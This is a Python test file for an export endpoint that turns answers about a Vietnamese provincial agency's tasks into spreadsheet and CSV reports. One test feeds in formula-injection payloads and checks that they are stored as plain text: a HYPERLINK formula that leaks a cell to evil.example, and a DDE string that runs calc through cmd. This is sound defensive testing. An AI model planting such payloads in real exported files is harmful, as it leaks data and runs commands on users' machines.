"""POST /api/export: the answer's rows as a report-ready .xlsx/.csv, named after the resolved
question, with no formula anywhere, whatever the page sends as title or group names."""

from __future__ import annotations

import csv
import io

import openpyxl

from service.export import COLUMNS

LISTING = "Sở Nội vụ tỉnh Hà Tĩnh chủ trì những việc gì trong quý này?"
TODAY = "2022-11-01"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _body(answer: dict, fmt: str, title: str = LISTING) -> dict:
    groups = [{"title": b["title"], "ids": [i["id"] for i in b["items"]]} for b in answer["blocks"] if b["type"] == "group"]
    return {"ids": [c["id"] for c in answer["citations"]], "format": fmt, "title": title, "query": answer["query"],
            "groups": groups}


async def test_export_gives_the_answer_as_a_report(client):
    answer = (await client.post("/api/ask", json={"question": LISTING, "today": TODAY})).json()
    ids = [c["id"] for c in answer["citations"]]

    xlsx = await client.post("/api/export", json=_body(answer, "xlsx"))
    comma = await client.post("/api/export", json=_body(answer, "csv"))
    bare = await client.post("/api/export", json={"ids": ids, "format": "csv"})
    missing = await client.post("/api/export", json={"ids": ["khong-co"], "format": "csv"})

    assert xlsx.status_code == 200 and "spreadsheetml" in xlsx.headers["content-type"]
    assert xlsx.headers["content-disposition"] == 'attachment; filename="nhiem-vu-so-noi-vu-ha-tinh-quy-iv-2022.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert [r[0] for r in rows[:2]] == ["Nhiệm vụ của Sở Nội vụ — Hà Tĩnh, quý IV/2022 (hỏi ngày 01/11/2022)",
                                        f"Câu hỏi: {LISTING}"] and rows[2] == COLUMNS
    items = [(g["title"], i) for g in answer["blocks"] if g["type"] == "group" for i in g["items"]]
    assert [(r[0], r[1], r[2]) for r in rows[3:]] == [(n, t, i["task"]) for n, (t, i) in enumerate(items, start=1)]
    assert sheet.auto_filter.ref == f"A3:L{len(rows)}"
    assert not any(str(value) in ids for row in rows for value in row)  # no internal ids
    assert comma.headers["content-disposition"].endswith('filename="nhiem-vu-so-noi-vu-ha-tinh-quy-iv-2022.csv"')
    table = list(csv.reader(io.StringIO(comma.content.decode("utf-8-sig"))))
    assert table[2] == list(COLUMNS) and [r[2] for r in table[3:]] == [i["task"] for _, i in items]
    assert bare.status_code == 200 and 'filename="nhiem-vu-cchc.csv"' in bare.headers["content-disposition"]
    assert missing.status_code == 404


async def test_formula_looking_title_and_groups_stay_text(client):
    answer = (await client.post("/api/ask", json={"question": LISTING, "today": TODAY})).json()
    body = _body(answer, "xlsx", title='=HYPERLINK("http://evil.example/?leak="&C3,"Xem")')
    body["groups"][0]["title"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    body["query"]["agency"]["name"] = "=1+1"

    sheet = openpyxl.load_workbook(io.BytesIO((await client.post("/api/export", json=body)).content)).active
    text = (await client.post("/api/export", json={**body, "format": "csv"})).content.decode("utf-8-sig")

    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(FORMULA_START)]
    assert sheet["B4"].value == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not [v for row in csv.reader(io.StringIO(text)) for v in row if v.startswith(FORMULA_START)]
